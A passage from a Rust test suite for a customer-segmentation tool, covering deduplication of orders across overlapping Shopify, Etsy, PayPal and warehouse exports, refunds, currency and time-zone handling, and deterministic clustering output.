        m["money_unit"],
        serde_json::Value::Null,
        "no currency quoted at 1"
    );
    let (_, m) = go("EUR=1,GBP=1.17,IRT=0.00002");
    assert_eq!(
        m["money_unit"],
        serde_json::Value::Null,
        "the rates are quoted in EUR, but c3's 30 is in no known unit"
    );

    let mut bad = checked("2024-06-30", Some(2)).params().clone();
    bad.currency_rates.insert("EUR".into(), 0.0);
    assert!(bad.check().is_err());
}

/// One order of 10 each by four other customers (`y0`…`y3` of `c2`…`c5`) on `day`: a run with
/// k = 2 needs that many buyers.
fn four_others(day: &str) -> Vec<Line> {
    (0..4)
        .map(|i| {
            l(
                ["y0", "y1", "y2", "y3"][i],
                ["c2", "c3", "c4", "c5"][i],
                day,
                "p1",
                1.0,
                10.0,
            )
        })
        .collect()
}

/// Lines without an order number (hand-kept sheets) are compared line by line.
#[test]
fn lines_repeated_across_sources_count_once_within_a_source_twice() {
    let dir = tempfile::tempdir().unwrap();
    let dup = l("", "c1", "2024-06-01", "p1", 1.0, 100.0);
    let other = l("", "c1", "2024-06-05", "p2", 1.0, 50.0);
    let others = four_others("2024-05-20");
    // Source a: the line twice (a real repeat) plus another line.
    let mut a = vec![dup.clone(), dup.clone(), other.clone()];
    a.extend(others);
    // Source b, an overlapping export: the same lines once, plus one new line. Written without
    // statistics so the range comes from the fallback scan. Its amount is in Rial: ten times
    // the Toman of the other lines, the same money.
    let b = vec![
        dup.clone(),
        l("", "c1", "2024-06-05", "p2", 1.0, 500.0).in_currency("IRR"),
        l("", "c1", "2024-06-07", "p3", 1.0, 7.0),
    ];
    // Source c does not overlap in time: its repeat of an a-line content is impossible, but a
    // same-looking line on another day must be kept.
    let c = vec![l("", "c1", "2024-06-20", "p1", 1.0, 100.0)];
    let fa = write_sales(dir.path(), "sales/order_month=2024-06/a.parquet", "a", &a);
    let no_stats = WriterProperties::builder()
        .set_statistics_enabled(EnabledStatistics::None)
        .build();
    let fb = write_sales_with(
        dir.path(),
        "sales/order_month=2024-06/b.parquet",
        "b",
        &b,
        no_stats,
    );
    let fc = write_sales(dir.path(), "sales/order_month=2024-06/c.parquet", "c", &c);
    let out = dir.path().join("out");
    let run = run(
        &inputs(vec![fc, fb, fa], vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    assert_eq!(run.manifest["inputs"]["duplicates_dropped"], 2);
    assert_eq!(run.manifest["inputs"]["order_rows_superseded"], 0);
    assert_eq!(run.manifest["inputs"]["rows_read"], 11);
    assert_eq!(run.manifest["inputs"]["rows_used"], 9);
    let rows = by_id(read_csv(&out.join("customers.csv")));
    // The line twice from a (200) + the p2 line (50) + p3 from b (7) + the June 20 line from c
    // (100); lines without an order number are one order per time: four.
    assert_eq!(rows["c1"]["monetary"], "357.00");
    assert_eq!(rows["c1"]["frequency"], "4");
}

/// Two uploads' sales (file name, upload key, lines) of February 2024, segmented as of June 30:
/// the run and `customers.csv` by id.
fn two_uploads(
    dir: &Path,
    a: (&str, &str, &[Line]),
    b: (&str, &str, &[Line]),
) -> (SegmentRun, HashMap<String, HashMap<String, String>>) {
    let files = [a, b].map(|(name, key, lines)| {
        write_sales(
            dir,
            &format!("sales/order_month=2024-02/{name}.parquet"),
            key,
            lines,
        )
    });
    let out = dir.join("out");
    let run = run(
        &inputs(files.to_vec(), vec![], None),
        &checked("2024-06-30", Some(2)),
        &out,
    )
    .unwrap();
    (run, by_id(read_csv(&out.join("customers.csv"))))
}

/// A warehouse's returns list names the order, not its buyer; the shop's export lists the same
/// return under the buyer: one return, whichever file is read first.
#[test]
fn a_return_listed_with_and_without_its_buyer_counts_once() {
    for flip in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        let mut shop = four_others("2024-02-20");
        shop.extend([
            l("1002", "c1", "2024-02-02", "A", 2.0, 20.0),
            l("1002", "c1", "2024-02-02", "B", 1.0, 5.0),
            l("1002", "c1", "2024-02-25", "A", -2.0, -20.0),
        ]);
        let warehouse = [l("1002", "", "2024-02-25", "A", -2.0, -20.0)];
        let (a, b) = (
            ("shop", "shop.csv", &shop[..]),
            ("returns", "returns.csv", &warehouse[..]),
        );
        let (run, rows) = if flip {
            two_uploads(dir.path(), b, a)
        } else {
            two_uploads(dir.path(), a, b)
        };
        assert_eq!(run.manifest["inputs"]["duplicates_dropped"], 1, "flip {flip}");
        assert_eq!(rows["c1"]["monetary"], "5.00", "flip {flip}");
        assert_eq!(rows["c1"]["return_rate"], "0.800", "flip {flip}");
    }
}

/// Shopify exported Q1, then the first half year: the newer export has the orders' current
/// state. An order refunded or cancelled since, or edited, counts as the newer export says, and
/// once, whichever file is read first.
#[test]
fn an_order_two_exports_give_counts_as_the_newer_says() {
    let dir = tempfile::tempdir().unwrap();
    let base = four_others("2024-02-20");
    let mut q1 = vec![
        l("#1", "c1", "2024-02-01", "p1", 1.0, 100.0),
        l("#2", "c1", "2024-02-10", "p2", 2.0, 50.0),
        l("#2", "c1", "2024-02-10", "p3", 1.0, 5.0),
        l("#3", "c1", "2024-03-01", "p1", 1.0, 30.0).with_status("pending"),
    ];
    q1.extend(base.clone());
    let mut h1 = vec![
        l("#1", "c1", "2024-02-01", "p1", 1.0, 100.0).with_status("refunded"),
        // #2 edited: its second item taken off.
        l("#2", "c1", "2024-02-10", "p2", 2.0, 50.0),
        l("#3", "c1", "2024-03-01", "p1", 1.0, 30.0).with_status("cancelled"),
        l("#4", "c1", "2024-05-01", "p4", 1.0, 20.0),
    ];
    h1.extend(base);
    // Named so that the newer export is read first.
    let (run, rows) = two_uploads(
        dir.path(),
        ("a_h1", "orders_export_2024H1.csv", &h1),
        ("b_q1", "orders_export_2024Q1.csv", &q1),
    );
    // #1 bought and refunded (net 0), #2 at 50, #4 at 20; #3 never happened.
    assert_eq!(rows["c1"]["monetary"], "70.00");
    assert_eq!(rows["c1"]["frequency"], "3");
    // The others' orders, the same in both, count once.
    assert_eq!(rows["c2"]["monetary"], "10.00");
    assert_eq!(rows["c2"]["frequency"], "1");
    // Q1's four lines of c1 and its four others.
    assert_eq!(run.manifest["inputs"]["order_rows_superseded"], 8);
    assert_eq!(run.manifest["inputs"]["duplicates_dropped"], 0);
    assert_eq!(run.manifest["inputs"]["net_revenue"], 110.0);
    let warnings = run.manifest["warnings"].to_string();
    assert!(warnings.contains("8 order lines were left out"), "{warnings}");
}

/// Etsy's Sold Orders file gives each order in one row without its items; its Sold Order Items
/// file the items. Uploaded both, each order counts once, by its items, and the refund only the
/// order-level file records still counts.
#[test]
fn an_order_level_file_beside_the_items_file_counts_once() {
    let dir = tempfile::tempdir().unwrap();
    let others = four_others("2024-02-20");
    let mut orders = vec![
        l("3301", "c1", "2024-02-01", "", 2.0, 60.0),
        // Refunded in full (`Adjusted Order Total` 0).
        l("3302", "c1", "2024-02-03", "", 1.0, 40.0).with_status("refunded"),
        // An order the items file does not have.
        l("3303", "c1", "2024-02-05", "", 1.0, 15.0),
    ];
    orders.extend(others.clone());
    let mut items = vec![
        l("3301", "c1", "2024-02-01", "p1", 1.0, 35.0),
        l("3301", "c1", "2024-02-01", "p2", 1.0, 25.0),
        l("3302", "c1", "2024-02-03", "p3", 1.0, 40.0),
    ];
    items.extend(others.into_iter().map(|o| Line {
        product: String::new(),
        ..o
    }));
    let (run, rows) = two_uploads(
        dir.path(),
        ("EtsySoldOrderItems", "EtsySoldOrderItems2024.csv", &items),
        ("EtsySoldOrders", "EtsySoldOrders2024.csv", &orders),
    );
    // 3301 (60) + 3302 bought and refunded (0) + 3303 (15).
    assert_eq!(rows["c1"]["monetary"], "75.00");
    assert_eq!(rows["c1"]["frequency"], "3");
    // 3301 has two items: it is a multi-item order, not a third "product" from the summary.
    assert_eq!(rows["c1"]["distinct_products"], "4");
    // The others: the items file gives their orders without products here, so the two uploads
    // are summaries alike and the newer (the later key, both reaching 20 Feb) tells them.
    assert_eq!(rows["c2"]["monetary"], "10.00");
    // 3301's row and the four others' in one of the files; 3302's row adds its refund only.
    assert_eq!(run.manifest["inputs"]["order_rows_superseded"], 5);
}

/// The same orders exported with times 8 hours apart (another time zone, or dates without times
/// beside times): the first and last orders, just outside where the two uploads' exact ranges
/// meet, count once too.
#[test]
fn versions_of_an_order_dated_hours_apart_count_once() {
    let dir = tempfile::tempdir().unwrap();
    let orders = |hour: &str| -> Vec<Line> {
        ["01", "08", "15", "22", "28"]
            .iter()
            .enumerate()
            .map(|(i, d)| {
                let (order, cust) = (format!("#{i}"), format!("c{}", i % 4 + 1));
                l(&order, &cust, &format!("2024-02-{d} {hour}"), "p1", 1.0, 10.0)
            })
            .collect()
    };
    let (run, rows) = two_uploads(
        dir.path(),
        ("utc", "orders_utc.csv", &orders("08:30")),
        ("la", "orders_la.csv", &orders("00:30")),
    );
    assert_eq!(run.manifest["inputs"]["order_rows_superseded"], 5);
    assert_eq!(run.manifest["inputs"]["net_revenue"], 50.0);
    assert_eq!(
        (rows["c1"]["frequency"].as_str(), rows["c1"]["monetary"].as_str()),
        ("2", "20.00")
    );
}

/// Two branches number their invoices from 1 each, and a customer bought at both on the same
/// day; an order exported in two parts: versions of one order name a product in common, so
/// these are not versions of each other and nothing is left out.
#[test]
fn orders_that_share_a_number_but_no_product_are_kept() {
    let dir = tempfile::tempdir().unwrap();
    let mut a = four_others("2024-02-20");
    a.extend([
        l("1", "c1", "2024-02-01 10:00", "mug", 1.0, 10.0).named("Mug"),
        l("7", "c1", "2024-02-03 10:00", "tea", 1.0, 5.0).named("Tea"),
    ]);
    let b = vec![
        l("1", "c1", "2024-02-01 17:00", "teapot", 1.0, 50.0).named("Teapot"),
        l("7", "c1", "2024-02-03 10:00", "cup", 1.0, 7.0).named("Cup"),
    ];
    let (run, rows) = two_uploads(
        dir.path(),
        ("vanak", "vanak.csv", &a),
        ("tajrish", "tajrish.csv", &b),
    );
    assert_eq!(run.manifest["inputs"]["order_rows_superseded"], 0);
    assert_eq!(rows["c1"]["monetary"], "72.00");
}

/// A shop that numbers its invoices afresh each year gives a customer invoice 1 twice, months
/// apart: two orders, the later one the last purchase, whether the export lists the two apart or
/// side by side (sorted by customer). Merged, the customer was a lapsed one-time buyer.
#[test]
fn an_invoice_number_used_again_a_year_later_is_another_order() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = vec![
        l("1", "c1", "2022-11-10", "p1", 1.0, 100.0),
        l("1", "c1", "2022-11-10", "p2", 1.0, 20.0),
        l("1", "c6", "2023-06-20", "p1", 1.0, 30.0),
        l("1", "c6", "2022-11-12", "p2", 1.0, 40.0),
    ];
    lines.extend(four_others("2023-05-01"));
    lines.extend([
        l("1", "c1", "2023-06-20", "p1", 1.0, 80.0),
        // Invoice 1 of 2022 again, its second shipment dated days after it: the same order.
        l("1", "c1", "2022-11-14", "p3", 1.0, 5.0),
    ]);
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let out = dir.path().join("out");
    let mut p = checked("2023-07-01", Some(2)).params().clone();
    p.min_group_size = 1;
    run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    for c in ["c1", "c6"] {
        assert_eq!(rows[c]["frequency"], "2", "{c}");
        assert_eq!(rows[c]["recency_days"], "11.5", "{c}");
        assert_ne!(rows[c]["lifecycle_stage"], "lapsed", "{c}");
    }
    assert_eq!(rows["c1"]["monetary"], "205.00");
    assert_eq!(
        rows["c1"]["multi_item_share"], "0.500",
        "2022's three products, 2023's one"
    );
    let winback = read_csv(&out.join("winback.csv"));
    assert!(winback.iter().all(|r| r["id"] != "c1" && r["id"] != "c6"));
}

/// A hand-kept sheet names its products; the shop's system export gives their codes beside the
/// names (and its amounts in Rial): the same invoices, counted once.
#[test]
fn a_sheet_naming_products_and_an_export_coding_them_are_versions_of_one_order() {
    let dir = tempfile::tempdir().unwrap();
    let mut sheet = four_others("2024-02-20");
    sheet.extend([
        l("5001", "c1", "2024-02-01", "", 2.0, 900_000.0).named("قهوه عربیکا"),
        l("5002", "c1", "2024-02-05", "", 1.0, 450_000.0).named("چای سبز"),
    ]);
    let system = vec![
        l("5001", "c1", "2024-02-01 09:12", "K-101", 2.0, 9_000_000.0)
            .named("قهوه عربیکا")
            .in_currency("IRR"),
        l("5002", "c1", "2024-02-05 17:40", "K-207", 1.0, 4_500_000.0)
            .named("چای سبز")
            .in_currency("IRR"),
        l("5003", "c1", "2024-02-25 11:00", "K-101", 1.0, 4_500_000.0)
            .named("قهوه عربیکا")
            .in_currency("IRR"),
    ];
    let (run, rows) = two_uploads(
        dir.path(),
        ("sheet", "فروش.xlsx", &sheet),
        ("system", "export.csv", &system),
    );
    assert_eq!(run.manifest["inputs"]["order_rows_superseded"], 2);
    assert_eq!(
        (rows["c1"]["frequency"].as_str(), rows["c1"]["monetary"].as_str()),
        ("3", "1800000.00")
    );
}

/// Shopify says the order was refunded; PayPal lists the payment and its refund, shipping
/// included. The order went back once, and no more than it was worth: net 0, not below.
#[test]
fn a_gateways_refund_beside_a_refunded_order_returns_it_once() {
    let dir = tempfile::tempdir().unwrap();
    let mut shop = four_others("2024-02-20");
    shop.extend([
        l("#100", "c1", "2024-02-02 10:00", "p1", 1.0, 30.0).with_status("refunded"),
        l("#101", "c1", "2024-02-03 10:00", "p1", 1.0, 30.0),
    ]);
    let paypal = vec![
        l("#100", "c1", "2024-02-02 11:00", "", 1.0, 35.0),
        l("#100", "c1", "2024-02-04 09:00", "", -1.0, -35.0),
        l("#101", "c1", "2024-02-03 11:00", "", 1.0, 35.0),
    ];
    let (run, rows) = two_uploads(
        dir.path(),
        ("shop", "orders_export.csv", &shop),
        ("paypal", "Download.CSV", &paypal),
    );
    assert_eq!(
        (rows["c1"]["frequency"].as_str(), rows["c1"]["monetary"].as_str()),
        ("2", "30.00")
    );
    assert_eq!(rows["c1"]["return_rate"], "0.500");
    assert_eq!(run.manifest["inputs"]["net_revenue"], 70.0);
}

/// A full-year export and a weekly one reach the same day; only the weekly one has the refund.
/// Statuses move one way (a refund comes after the payment), so the refund stands whichever key
/// sorts later. A guest's order is an order like any other.
#[test]
fn a_refund_in_either_version_stands() {
    let dir = tempfile::tempdir().unwrap();
    let mut year = four_others("2024-02-20");
    year.extend([
        l("#9", "c1", "2024-02-18 10:00", "p1", 1.0, 30.0),
        l("#8", "", "2024-02-19 10:00", "p1", 1.0, 40.0),
        l("#7", "c1", "2024-02-26 10:00", "p1", 1.0, 20.0),
    ]);
    let week = vec![
        l("#9", "c1", "2024-02-18 10:00", "p1", 1.0, 30.0).with_status("refunded"),
        l("#8", "", "2024-02-19 10:00", "p1", 1.0, 40.0).with_status("refunded"),
        l("#7", "c1", "2024-02-26 10:00", "p1", 1.0, 20.0),
    ];
    let (run, rows) = two_uploads(
        dir.path(),
        ("week", "orders_2024-w08.csv", &week),
        ("year", "orders_2024.csv", &year),
    );
    assert_eq!(
        (rows["c1"]["frequency"].as_str(), rows["c1"]["monetary"].as_str()),
        ("2", "20.00")
    );
    assert_eq!(run.manifest["inputs"]["order_rows_superseded"], 3);
    // The others' 40; the guest's order bought and refunded.
    assert_eq!(run.manifest["inputs"]["net_revenue"], 60.0);
}

/// An order-level file says what happened to orders the items file lists: a cancellation
/// cancels the order, and a refund of its total (shipping included) returns what the items were
/// worth, no more.
#[test]
fn an_order_level_cancellation_or_refund_applies_to_the_itemised_order() {
    let dir = tempfile::tempdir().unwrap();
    let mut items = four_others("2024-02-20");
    items.extend([
        l("5101", "c1", "2024-02-01", "p1", 1.0, 40.0),
        l("5101", "c1", "2024-02-01", "p2", 1.0, 25.0),
        l("5102", "c1", "2024-02-02", "p1", 1.0, 40.0),
        l("5103", "c1", "2024-02-03", "p3", 1.0, 60.0),
    ]);
    let orders = vec![
        l("5101", "c1", "2024-02-01", "", 1.0, 70.0).with_status("refunded"),
        l("5102", "c1", "2024-02-02", "", 1.0, 45.0).with_status("cancelled"),
        l("5103", "c1", "2024-02-03", "", 1.0, 65.0),
    ];
    let (_, rows) = two_uploads(
        dir.path(),
        ("order-items", "order-items.csv", &items),
        ("orders", "orders.csv", &orders),
    );
    // 5101 bought and returned (net 0), 5102 never happened, 5103 at its items' 60.
    assert_eq!(
        (rows["c1"]["frequency"].as_str(), rows["c1"]["monetary"].as_str()),
        ("2", "60.00")
    );
    assert_eq!(rows["c1"]["return_rate"], "0.520");
}

#[test]
fn timezone_sets_end_of_day_weekday_and_hour() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines: Vec<Line> = (0..4)
        .map(|i| {
            l(
                ["z0", "z1", "z2", "z3"][i],
                ["c2", "c3", "c4", "c5"][i],
                "2024-06-01",
                "p1",
                1.0,
                10.0,
            )
        })
        .collect();
    // 22:30 UTC on Friday 28 June is 02:00 on Saturday 29 June in Tehran (UTC+3:30).
    lines.push(l("t1", "c1", "2024-06-28 22:30", "p1", 1.0, 10.0));
    // 21:00 UTC on 30 June is already 1 July in Tehran: after as_of.
    lines.push(l("t2", "c1", "2024-06-30 21:00", "p1", 1.0, 10.0));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let mut p = SegmentParams::new(date("2024-06-30"));
    p.timezone = chrono_tz::Asia::Tehran;
    p.k = Some(2);
    let out = dir.path().join("out");
    let run = run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    let c1 = &rows["c1"];
    assert_eq!(
        (
            c1["preferred_weekday"].as_str(),
            c1["preferred_hour_band"].as_str()
        ),
        ("Saturday", "00-08")
    );
    assert_eq!(c1["last_purchase"], "2024-06-29");
    assert_eq!(c1["frequency"], "1");
    assert_eq!(run.manifest["inputs"]["rows_after_as_of"], 1);
    // End of 30 June in Tehran is 20:30 UTC, 46 hours after 22:30 UTC on 28 June.
    assert_eq!(c1["recency_days"], "1.9");
}

/// The lifecycle thresholds count calendar days in the job's zone: Berlin's clocks went back an
/// hour on 27 October 2024, which made a first purchase 29 days before the run date 30.04 days
/// old and a last one 179 days before it 180.04 days old, and so not `new` and `lapsed`.
#[test]
fn lifecycle_thresholds_count_days_across_a_clock_change() {
    let dir = tempfile::tempdir().unwrap();
    // Local midnights in Berlin (+02:00) before the change, as date-only exports store them.
    let mut lines = vec![
        l("n29", "new29", "2024-10-09 22:00", "p1", 1.0, 10.0),
        l("n30", "new30", "2024-10-08 22:00", "p1", 1.0, 10.0),
        l("a0", "lapse179", "2023-06-01 22:00", "p1", 1.0, 10.0),
        l("a1", "lapse179", "2024-05-12 22:00", "p1", 1.0, 10.0),
        l("b0", "lapse180", "2023-06-01 22:00", "p1", 1.0, 10.0),
        l("b1", "lapse180", "2024-05-11 22:00", "p1", 1.0, 10.0),
    ];
    lines.extend((0..3).map(|i| l(&format!("x{i}"), &format!("x{i}"), "2024-11-01", "p1", 1.0, 10.0)));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let mut p = SegmentParams::new(date("2024-11-08"));
    p.timezone = chrono_tz::Europe::Berlin;
    p.k = Some(2);
    let out = dir.path().join("out");
    run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    let stage = |c: &str| rows[c]["lifecycle_stage"].clone();
    assert_eq!(
        [
            stage("new29"),
            stage("new30"),
            stage("lapse179"),
            stage("lapse180")
        ],
        ["new", "active", "active", "lapsed"]
    );
}

/// Dates without times are stored at the first instant of the local day: the weekday is known,
/// the hour is not.
#[test]
fn a_date_without_a_time_names_a_weekday_but_no_hour() {
    let dir = tempfile::tempdir().unwrap();
    // Local midnight in Tehran is 20:30 UTC the day before: Saturdays 1 and 8 June.
    let mut lines = vec![
        l("d1", "d1", "2024-05-31 20:30", "p1", 1.0, 10.0),
        l("d2", "d1", "2024-06-07 20:30", "p1", 1.0, 10.0),
        // One order at 10:00 Tehran time among midnight ones: that hour is the only one known.
        l("m1", "m1", "2024-05-31 20:30", "p1", 1.0, 10.0),
        l("m2", "m1", "2024-06-08 06:30", "p1", 1.0, 10.0),
        // Tehran's clocks jumped from 00:00 to 01:00 on 22 March 2021: a date-only value is
        // stored at 01:00 (+04:30), the first instant of that Monday.
        l("g1", "g1", "2021-03-21 20:30", "p1", 1.0, 10.0),
    ];
    lines.extend((0..3).map(|i| l(&format!("x{i}"), &format!("x{i}"), "2024-06-10", "p1", 1.0, 10.0)));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let mut p = SegmentParams::new(date("2024-06-30"));
    p.timezone = chrono_tz::Asia::Tehran;
    p.k = Some(2);
    let out = dir.path().join("out");
    run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let rows = by_id(read_csv(&out.join("customers.csv")));
    let d1 = &rows["d1"];
    assert_eq!(
        (
            d1["preferred_weekday"].as_str(),
            d1["preferred_hour_band"].as_str()
        ),
        ("Saturday", ""),
        "not 00-08"
    );
    assert_eq!(rows["m1"]["preferred_hour_band"], "08-12");
    assert_eq!(
        (
            rows["g1"]["preferred_weekday"].as_str(),
            rows["g1"]["preferred_hour_band"].as_str()
        ),
        ("Monday", "")
    );
}

/// Three well-separated groups of 20 customers as of `as_of`, plus `extra` lines.
fn three_groups(as_of: NaiveDate, extra: &[Line]) -> Vec<Line> {
    let mut lines = Vec::new();
    for i in 0..20i64 {
        let (a, m, b) = (format!("a{i:02}"), format!("m{i:02}"), format!("b{i:02}"));
        // Regular high spenders: 8 orders 10 days apart with three products each.
        for o in 0..8 {
            let day = days_ago(as_of, 1 + i % 3 + 10 * o);
            for prod in ["p1", "p2", "p3"] {
                lines.push(l(&format!("{a}-{o}"), &a, &day, prod, 1.0, 150.0 + i as f64));
            }
        }
        // Mid customers: 3 orders a month apart, last one 40–59 days ago.
        for o in 0..3 {
            let day = days_ago(as_of, 40 + i + 30 * o);
            lines.push(l(&format!("{m}-{o}"), &m, &day, "p4", 1.0, 80.0 + i as f64).at("IR", "Isfahan"));
        }
        // One-time small buyers, about five months ago.
        lines.push(
            l(
                &format!("{b}-0"),
                &b,
                &days_ago(as_of, 140 + i),
                "p5",
                1.0,
                12.0 + i as f64,
            )
            .at("IR", "Mashhad"),
        );
    }
    lines.extend_from_slice(extra);
    lines
}

#[test]
fn same_inputs_give_byte_identical_outputs() {
    let dir = tempfile::tempdir().unwrap();
    let as_of = date("2024-06-30");
    let sales = write_sales(dir.path(), "s.parquet", "s1", &three_groups(as_of, &[]));
    let p = checked("2024-06-30", None);
    let r1 = run(
        &inputs(vec![sales.clone()], vec![], None),
        &p,
        &dir.path().join("o1"),
    )
    .unwrap();
    let r2 = run(&inputs(vec![sales], vec![], None), &p, &dir.path().join("o2")).unwrap();
    assert_eq!(r1.files, r2.files);
    assert_eq!(r1.state, r2.state);
    for f in &r1.files {
        let (a, b) = (
            std::fs::read(dir.path().join("o1").join(f)).unwrap(),
            std::fs::read(dir.path().join("o2").join(f)).unwrap(),
        );
        assert!(a == b, "{f} differs between runs");
    }
    assert_eq!(r1.manifest["clustering"]["k_chosen_by"], "silhouette");
    let scores = r1.manifest["clustering"]["silhouette_by_k"].as_object().unwrap();
    assert_eq!(scores.len(), 9, "k = 2..=10 all tried: {scores:?}");
    // Written as people read them: 2, 3, …, 10 (serde_json orders keys as text, 10 before 2).
    let text = std::fs::read_to_string(dir.path().join("o1").join("manifest.json")).unwrap();
    for map in ["silhouette_by_k", "smallest_segment_by_k"] {
        let body = text.split(&format!("\"{map}\": {{")).nth(1).unwrap();
        let body = &body[..body.find('}').unwrap()];
        let keys: Vec<&str> = body
            .lines()
            .filter_map(|l| l.trim().strip_prefix('"')?.split('"').next())
            .collect();
        assert_eq!(keys, ["2", "3", "4", "5", "6", "7", "8", "9", "10"], "{map}");
    }
    // The run id names the content: the same run gets the same id, other parameters another.
    let id = r1.manifest["run_id"].as_str().unwrap();
    assert!(id.starts_with("2024-06-30-") && id.len() == 19, "{id}");
    let sales = dir.path().join("s.parquet");
    let r3 = run(
        &inputs(vec![sales], vec![], None),
        &checked("2024-06-30", Some(2)),
        &dir.path().join("o3"),
    )
    .unwrap();
    assert_ne!(r3.manifest["run_id"].as_str(), Some(id));
}

/// `count` customers alike in recency, frequency and spend: `orders` orders of about `amount`, the
/// last `last_days_ago` days before the run date.
fn tight_group(prefix: &str, count: usize, orders: i64, amount: f64, last_days_ago: i64) -> Vec<Line> {
    let as_of = date("2024-06-30");
    let mut lines = Vec::new();
    for c in 0..count {
        let id = format!("{prefix}{c:02}");
        for o in 0..orders {
            let day = days_ago(as_of, last_days_ago + 7 * o + (c % 2) as i64);
            lines.push(l(&format!("{id}-{o}"), &id, &day, "p1", 1.0, amount + c as f64));
        }
    }
    lines
}

fn segment_sizes(out: &Path) -> Vec<(usize, bool)> {
    read_csv(&out.join("segments.csv"))
        .iter()
        .map(|r| (r["customers"].parse().unwrap(), r["suppressed"] == "true"))
        .collect()
}

/// Two groups of 17 and two outlier pairs of 3: the best silhouette lies at k = 4, whose outlier
/// segments would be withheld. Automatic k keeps every segment at the minimum group size.
#[test]
fn automatic_k_keeps_segments_at_the_minimum_group_size() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = tight_group("a", 17, 6, 200.0, 2);
    lines.extend(tight_group("b", 17, 1, 20.0, 150));
    lines.extend(tight_group("c", 3, 2, 5000.0, 60));
    lines.extend(tight_group("d", 3, 12, 40.0, 1));
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let mut p = SegmentParams::new(date("2024-06-30"));
    p.min_group_size = 10;
    let out = dir.path().join("out");
    let run = run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let c = &run.manifest["clustering"];
    assert_eq!(c["k_chosen_by"], "silhouette");
    // 40 purchasers / 10: k = 2..=4 tried, not up to 10.
    let tried: Vec<&String> = c["silhouette_by_k"].as_object().unwrap().keys().collect();
    assert_eq!(tried, ["2", "3", "4"]);
    let smallest = c["smallest_segment_by_k"].as_object().unwrap();
    assert!(smallest["4"].as_u64().unwrap() < 10, "{c}");
    let sizes = segment_sizes(&out);
    assert!(sizes.iter().all(|&(n, hidden)| n >= 10 && !hidden), "{sizes:?}");
}

/// Fewer purchasers than two groups of the minimum: every segment is under it whatever k, so the
/// run keeps to k = 2 instead of ten withheld segments with numbered copies of a few names.
#[test]
fn automatic_k_is_2_when_no_k_reaches_the_minimum() {
    let dir = tempfile::tempdir().unwrap();
    let mut lines = Vec::new();
    for (g, (orders, amount, last)) in [(1, 20.0, 150), (3, 90.0, 30), (8, 300.0, 2), (2, 2000.0, 90)]
        .into_iter()
        .enumerate()
    {
        lines.extend(tight_group(&format!("g{g}-"), 4, orders, amount, last));
    }
    let sales = write_sales(dir.path(), "s.parquet", "s1", &lines);
    let mut p = SegmentParams::new(date("2024-06-30"));
    p.min_group_size = 10;
    let out = dir.path().join("out");
    let run = run(&inputs(vec![sales], vec![], None), &p.check().unwrap(), &out).unwrap();
    let c = &run.manifest["clustering"];
    assert_eq!(c["k"], 2, "{c}");
    assert_eq!(c["k_chosen_by"], "smallest_segment");
    assert_eq!(segment_sizes(&out).len(), 2);
}

/// The reader leaves out string columns whose statistics say they are all null, one row group at
/// a time; that must give exactly what reading the nulls gives.
#[test]
fn all_null_columns_and_many_row_groups_read_like_one_plain_file() {
    let dir = tempfile::tempdir().unwrap();
    let as_of = date("2024-06-30");
    let mut lines = three_groups(as_of, &[]);
    for line in &mut lines {
        line.city = "";
    }
    // Seven rows per row group: every read batch spans many column chunks and dictionaries.
    let small_groups = WriterProperties::builder()
        .set_max_row_group_row_count(Some(7))
        .build();
    let split = write_sales_with(dir.path(), "a/s.parquet", "s1", &lines, small_groups);
    use parquet::file::reader::FileReader as _;
    let meta = parquet::file::reader::SerializedFileReader::new(std::fs::File::open(&split).unwrap())
        .unwrap()
        .metadata()
        .clone();
    assert!(meta.num_row_groups() > 10);
    assert!(super::sales::all_null(&meta, 0, "city"));
    assert!(!super::sales::all_null(&meta, 0, "country"));
    let no_stats = WriterProperties::builder()
        .set_statistics_enabled(EnabledStatistics::None)
        .build();
    let whole = write_sales_with(dir.path(), "b/s.parquet", "s1", &lines, no_stats);
    let p = checked("2024-06-30", None);
    let ra = run(&inputs(vec![split], vec![], None), &p, &dir.path().join("oa")).unwrap();
    let rb = run(&inputs(vec![whole], vec![], None), &p, &dir.path().join("ob")).unwrap();
    assert_eq!(ra.files, rb.files);
    for f in ["customers.csv", "segments.csv", "ideal_customers.csv"] {
        let a = std::fs::read_to_string(dir.path().join("oa").join(f)).unwrap();
        let b = std::fs::read_to_string(dir.path().join("ob").join(f)).unwrap();
        assert!(a == b, "{f} differs");
    }
}

/// Two years on, every customer lapsed, the continued model may leave segments empty; the
/// ideal group is then taken from the segments that have customers, never from empty ones.
#[test]
fn the_ideal_group_is_never_made_of_empty_segments() {
    let dir = tempfile::tempdir().unwrap();
    let day1 = date("2024-06-30");
    let s1 = write_sales(
        dir.path(),
        "sales/order_month=2024-06/s1.parquet",
        "s1",
        &three_groups(day1, &[]),
    );
    let first = run(
        &inputs(vec![s1.clone()], vec![], None),
        &checked("2024-06-30", None),
        &dir.path().join("n1"),
    )
    .unwrap();
    let later = run(
        &inputs(vec![s1], vec![], Some(first.state.clone())),
        &checked("2026-06-30", None),
        &dir.path().join("n2"),
    )
    .unwrap();
    assert_eq!(later.manifest["clustering"]["previous_state"], "continued");
    let segments = &later.manifest["counts"]["segments"];
    let icp: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("n2/ideal_customer_profile.json")).unwrap())
            .unwrap();
    let text = icp["ideal_rule"]["description"].as_str().unwrap().to_string();
    for (id, name, _) in published_names(&dir.path().join("n2")) {
        if segments[id.to_string()] == 0 {
            assert!(!text.contains(&name), "empty {name} taken: {text}");
        }
    }
    assert!(
